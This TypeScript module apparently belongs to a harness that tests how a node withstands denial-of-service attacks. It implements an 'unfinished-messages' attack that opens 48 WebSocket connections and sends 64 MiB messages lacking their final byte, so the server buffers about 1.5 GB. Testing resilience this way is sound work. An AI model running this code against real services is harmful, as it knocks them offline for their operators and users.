import type { Assault, Attack } from './attack.ts'
import { crowd, type RawSocket } from './raw-socket.ts'
import { countWebSocket, frame, frameHead, opcodes, openWebSocket } from './raw-websocket.ts'

/** The maximum size of a WebSocket message. */
const messageBytes = 64 * 1024 * 1024
const piece = Buffer.alloc(256 * 1024, ' ')
const largeFragment = frame(opcodes.continuation, piece.subarray(0, 64 * 1024), false)
const tinyFragments = Buffer.concat(Array.from({ length: 4096 }, () => frame(opcodes.continuation, ' ', false)))

/** WebSocket messages that never end: the node buffers them until the last byte. */
export const unfinishedMessages: Attack = {
  name: 'unfinished-messages',
  description:
    '48 WebSocket messages of 64 MiB that lack their last byte: one frame, large fragments, one-byte fragments',
  goal: { megabytes: 1500 },
  async run(assault) {
    const { signal } = assault
    const ways = [oneFrame, largeFragments, oneByteFragments]
    await crowd(48, signal, async (n) => {
      const raw = await openWebSocket(assault)
      if (raw === undefined) return
      const send = ways[n % ways.length] ?? oneFrame
      if (await send(raw, assault)) await raw.hold(signal)
      await countWebSocket(raw, assault)
    })
  },
}

async function oneFrame(raw: RawSocket, { signal }: Assault): Promise<boolean> {
  if (!(await raw.send(frameHead(opcodes.text, messageBytes), signal))) return false
  for (let left = messageBytes - 1; left > 0; left -= piece.length)
    if (!(await raw.send(piece.subarray(0, left), signal))) return false
  return true
}

async function largeFragments(raw: RawSocket, { signal }: Assault): Promise<boolean> {
  if (!(await raw.send(frame(opcodes.text, ' ', false), signal))) return false
  // One fragment less than the maximum size: with the first byte, another one would exceed it.
  for (let left = messageBytes - 64 * 1024; left > 0; left -= 64 * 1024)
    if (!(await raw.send(largeFragment, signal))) return false
  return true
}

async function oneByteFragments(raw: RawSocket, { signal }: Assault): Promise<boolean> {
  if (!(await raw.send(frame(opcodes.text, ' ', false), signal))) return false
  // As many fragments as the WebSocket library allows; with more it would close the connection.
  for (let sent = 0; sent < 3; sent++) if (!(await raw.send(tinyFragments, signal))) return false
  return true
}
